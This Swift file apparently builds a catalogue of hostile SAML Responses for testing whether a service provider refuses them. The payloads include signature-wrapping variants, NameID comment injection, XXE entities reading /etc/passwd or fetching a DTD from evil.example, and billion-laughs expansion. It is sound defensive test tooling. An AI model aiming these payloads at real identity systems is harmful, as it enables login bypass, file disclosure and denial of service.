public import Foundation
import IdentityCore
import SAML
public import ProtocolVectors
public import XMLSecurity

/// Hostile SAML Responses, each built from a genuine signed Response of a test IdP and
/// rewritten into one attack, with what a careful SP must do with it. `mock-idp attacks`
/// writes them as files (`Vectors/protocol/saml/`); a team points them at its own SP by
/// giving its entity IDs, ACS URL and signing key.
///
/// The expected codes are the reference server's (its SAML connector validates exactly
/// as `SAMLResponseValidator` does); any SP must refuse the same messages, whatever it
/// calls the refusal — except the comment-injection one, which must be accepted for the
/// account the IdP actually signed.
public struct SAMLAttackCatalogue: Sendable {
    public struct Context: Sendable {
        public var idpEntityID = "https://partner-idp.example/saml"
        public var spEntityID = "https://identity-server.example/sp"
        public var acs = "https://identity-server.example/commonauth"
        public var requestID = "_request-1"
        public var now = Date(timeIntervalSince1970: 1_767_258_000)  // 2026-01-01T09:00:00Z
        public var signing: SigningCredential
        public var attacker: SigningCredential
        /// The person the genuine Response is about (its NameID and `email` attribute).
        public var nameID = "alice@example.com"
        /// Mixed into the IDs when not empty. The files are built without one (the same
        /// IDs every time); a live flow passes its request ID, so a real SP with a replay
        /// cache never sees an Assertion ID twice across runs.
        public var seedSalt = ""

        public init(signing: SigningCredential, attacker: SigningCredential) {
            self.signing = signing
            self.attacker = attacker
        }
    }

    /// A refusal's code, or acceptance with the NameID read (the whole signed value).
    public typealias Expectation = ProtocolVerdict

    public struct Entry: Sendable {
        public let name: String
        /// The family in the catalogue (`signature wrapping`, `XML parsing`, …).
        public let family: String
        public let title: String
        public let xml: String
        public let expected: Expectation
    }

    public let context: Context

    public init(_ context: Context) {
        self.context = context
    }

    struct Shape {
        var signResponse = true
        var signAssertion = true
        /// nil: the context's `nameID`.
        var nameID: String?
        var audience: String?
        var recipient: String?
        var destination: String?
        var inResponseTo: String?? = .none
        var shift: TimeInterval = 0
        var attackerKey = false
    }

    /// A genuine Response of the given shape (IDs seeded from `name`: the same every time).
    func response(_ name: String, _ shape: Shape = Shape()) throws -> String {
        var seed: UInt64 = 0xcbf2_9ce4_8422_2325
        for byte in (context.seedSalt.isEmpty ? name : name + "|" + context.seedSalt).utf8 { seed = (seed ^ UInt64(byte)) &* 0x0100_0000_01b3 }
        let nameID = shape.nameID ?? context.nameID
        let clock = FixedWallClock(context.now.addingTimeInterval(shape.shift))
        return try SAMLResponseBuilder(clock: clock, random: SeededRandomSource(seed: seed)).build(
            SAMLResponseParameters(
                issuer: context.idpEntityID, destination: shape.destination ?? context.acs,
                inResponseTo: shape.inResponseTo ?? context.requestID, audiences: [shape.audience ?? context.spEntityID],
                recipient: shape.recipient ?? context.acs, validity: 300, status: .success,
                assertion: SAMLAssertionContent(
                    nameID: nameID, nameIDFormat: NameIDFormat.emailAddress.rawValue,
                    attributes: [SAMLAttribute(name: "email", values: [nameID])], authnInstant: clock.now, sessionIndex: "_session-1"),
                signing: shape.signResponse || shape.signAssertion
                    ? SAMLSigningOptions(
                        credential: shape.attackerKey ? context.attacker : context.signing, algorithm: .rsaSHA256, digest: .sha256,
                        signResponse: shape.signResponse, signAssertion: shape.signAssertion)
                    : nil))
    }

    /// One entry, built alone (a live flow needs one, not thirty signatures).
    public func entry(named name: String) throws -> Entry? {
        try entries(only: name).first
    }

    public func entries() throws -> [Entry] { try entries(only: nil) }

    /// The catalogue, or only the entry named `only`: each entry is a closure, so the
    /// entries not asked for are never signed.
    func entries(only: String?) throws -> [Entry] {
        let responseSigned = Shape(signResponse: true, signAssertion: false)
        let assertionSigned = Shape(signResponse: false, signAssertion: true)
        let wrapping = "signature wrapping"
        let signature = "signature"
        let parsing = "XML parsing"
        let conditions = "conditions"
        func entry(_ name: String, _ family: String, _ title: String, _ xml: @autoclosure () throws -> String, _ expected: Expectation) throws -> Entry? {
            guard only == nil || only == name else { return nil }
            return Entry(name: name, family: family, title: title, xml: SAMLWrapping.salting(try xml(), with: context.seedSalt), expected: expected)
        }
        var built: String?
        func genuine() throws -> String {
            if let built { return built }
            built = try response("genuine")
            return built!
        }
        func document() throws -> String {  // without any XML declaration
            let genuine = try genuine()
            return genuine.hasPrefix("<?xml") ? String(genuine.drop { $0 != "<" }.drop { $0 != ">" }.dropFirst()) : genuine
        }
        let nameID = context.nameID
        var list: [Entry?] = try [
            entry("genuine", "baseline", "The genuine Response, both signatures: accepted", genuine(), .accepted(subject: nameID)),
            entry("xsw1-response-clone-signature-carries-original", wrapping,
                  "XSW1: the attacker's Response carries the genuine signature, the signed original inside it",
                  try SAMLWrapping.xsw1(response("xsw1", responseSigned)), .refused(code: "xmldsig.malformed")),
            entry("xsw2-response-clone-original-beside-signature", wrapping,
                  "XSW2: the attacker's Response with the signed original beside the (now detached) signature",
                  try SAMLWrapping.xsw2(response("xsw2", responseSigned)), .refused(code: "xmldsig.reference_not_enveloping")),
            entry("xsw3-unsigned-assertion-before-signed", wrapping,
                  "XSW3: an unsigned attacker assertion before the signed one (two assertions, one signed)",
                  try SAMLWrapping.xsw3(response("xsw3", assertionSigned)), .refused(code: "saml.assertion_multiple")),
            entry("xsw4-attacker-assertion-wraps-signed", wrapping,
                  "XSW4: the attacker's assertion wraps the signed one",
                  try SAMLWrapping.xsw4(response("xsw4", assertionSigned)), .refused(code: "saml.unsigned")),
            entry("xsw5-changed-signed-assertion-plus-original", wrapping,
                  "XSW5: the signed assertion changed in place, an unsigned copy of the original at the end",
                  try SAMLWrapping.xsw5(response("xsw5", assertionSigned)), .refused(code: "saml.assertion_multiple")),
            entry("xsw6-original-inside-signature", wrapping,
                  "XSW6: the signed assertion changed in place, the original inside its signature",
                  try SAMLWrapping.xsw6(response("xsw6", assertionSigned)), .refused(code: "xmldsig.malformed")),
            entry("xsw7-signed-assertion-in-extensions", wrapping,
                  "XSW7: the signed assertion moved into Extensions, the attacker's in its place",
                  try SAMLWrapping.xsw7(response("xsw7", assertionSigned)), .refused(code: "saml.unsigned")),
            entry("xsw8-original-in-signature-object", wrapping,
                  "XSW8: the signed assertion changed in place, the original in a ds:Object of its signature",
                  try SAMLWrapping.xsw8(response("xsw8", assertionSigned)), .refused(code: "xmldsig.malformed")),
            entry("signature-excluded", signature, "Signature exclusion: every signature removed",
                  try SAMLWrapping.withoutSignatures(response("excluded")), .refused(code: "saml.unsigned")),
            entry("two-signedinfo", signature, "Two SignedInfo elements in one signature",
                  try SAMLWrapping.twoSignedInfos(response("two-signedinfo", assertionSigned)), .refused(code: "xmldsig.malformed")),
            entry("two-references", signature, "Two References in one SignedInfo",
                  try SAMLWrapping.twoReferences(response("two-references", assertionSigned)), .refused(code: "xmldsig.multiple_references")),
            entry("reference-id-appears-twice", signature, "The signed assertion's ID carried by a second element",
                  try SAMLWrapping.duplicateID(response("duplicate-id", assertionSigned)), .refused(code: "xmldsig.duplicate_id")),
            entry("comment-in-nameid", signature,
                  "A comment inside the signed NameID (\(nameID)<!---->.evil.example): the whole signed value is read",
                  try SAMLWrapping.commentInNameID(
                      response("comment", Shape(nameID: nameID + ".evil.example")), after: nameID),
                  .accepted(subject: nameID + ".evil.example")),
            entry("whitespace-in-nameid", signature, "Whitespace added inside the signed NameID (c14n keeps it: the digest breaks)",
                  try SAMLWrapping.whitespaceInNameID(response("whitespace", assertionSigned)), .refused(code: "xmldsig.digest_mismatch")),
            entry("attacker-keyinfo", signature, "Signed with the attacker's key, its certificate in KeyInfo",
                  try response("attacker", Shape(attackerKey: true)), .refused(code: "xmldsig.untrusted_key")),
        ]
        list += try [
            entry("doctype-present", parsing, "Any DTD at all", "<!DOCTYPE samlp:Response>" + document(), .refused(code: "xml.dtd_forbidden")),
            entry("xxe-external-entity", parsing, "XXE: an external entity in the NameID",
                  "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>" + document().replacingOccurrences(of: ">\(nameID)<", with: ">&x;<"),
                  .refused(code: "xml.dtd_forbidden")),
            entry("xxe-parameter-entity", parsing, "XXE: an external parameter entity",
                  "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://evil.example/p.dtd\"> %p;]>" + document(), .refused(code: "xml.dtd_forbidden")),
            entry("billion-laughs", parsing, "Billion laughs: nested entity expansion",
                  "<!DOCTYPE r [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">"
                    + "<!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">]>" + document().replacingOccurrences(of: ">\(nameID)<", with: ">&d;<"),
                  .refused(code: "xml.dtd_forbidden")),
            entry("deep-nesting", parsing, "Elements nested 100 deep",
                  document().replacingOccurrences(
                      of: "</samlp:Response>",
                      with: String(repeating: "<samlp:Extensions>", count: 100) + String(repeating: "</samlp:Extensions>", count: 100) + "</samlp:Response>"),
                  .refused(code: "xml.too_deep")),
            entry("huge-document", parsing, "A document over the 256 KiB parser limit",
                  document().replacingOccurrences(
                      of: "</samlp:Response>", with: "<samlp:Extensions>" + String(repeating: "A", count: 270_000) + "</samlp:Extensions></samlp:Response>"),
                  .refused(code: "xml.too_large")),
            entry("declared-utf16", parsing, "Declared as UTF-16 (only UTF-8 is read)",
                  "<?xml version=\"1.0\" encoding=\"UTF-16\"?>" + document(), .refused(code: "xml.encoding_unsupported")),
        ]
        list += try [
            entry("expired", conditions, "Issued two hours ago (validity 5 minutes, skew 60 s)",
                  try response("expired", Shape(shift: -7200)), .refused(code: "saml.expired")),
            entry("not-yet-valid", conditions, "Issued an hour from now", try response("future", Shape(shift: 3600)), .refused(code: "saml.not_yet_valid")),
            entry("wrong-audience", conditions, "For another SP's audience",
                  try response("audience", Shape(audience: "https://other-sp.example")), .refused(code: "saml.audience_mismatch")),
            entry("wrong-recipient", conditions, "SubjectConfirmationData Recipient is another ACS",
                  try response("recipient", Shape(recipient: "https://evil.example/acs")), .refused(code: "saml.recipient_mismatch")),
            entry("wrong-destination", conditions, "Destination is another ACS",
                  try response("destination", Shape(destination: "https://evil.example/acs")), .refused(code: "saml.destination_mismatch")),
            entry("unknown-in-response-to", conditions, "InResponseTo names a request this SP never sent",
                  try response("irt", Shape(inResponseTo: .some("_someone-elses-request"))), .refused(code: "saml.in_response_to_mismatch")),
            entry("unsolicited", conditions, "No InResponseTo (IdP-initiated) where unsolicited Responses are off",
                  try response("unsolicited", Shape(inResponseTo: .some(nil))), .refused(code: "saml.unsolicited")),
        ]
        return list.compactMap { $0 }
    }
}
